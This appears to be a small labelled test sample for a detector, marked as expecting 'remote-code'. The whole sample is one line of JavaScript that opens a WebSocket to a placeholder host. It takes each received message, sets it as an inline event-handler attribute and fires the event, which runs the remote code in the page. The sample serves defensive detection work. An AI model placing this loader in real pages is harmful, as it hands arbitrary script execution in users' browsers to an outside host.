// expect: remote-code
const s=new WebSocket("wss://x.example");s.onmessage=({data})=>{document.documentElement.setAttribute("onreset",data);document.documentElement.dispatchEvent(new CustomEvent("reset"))};
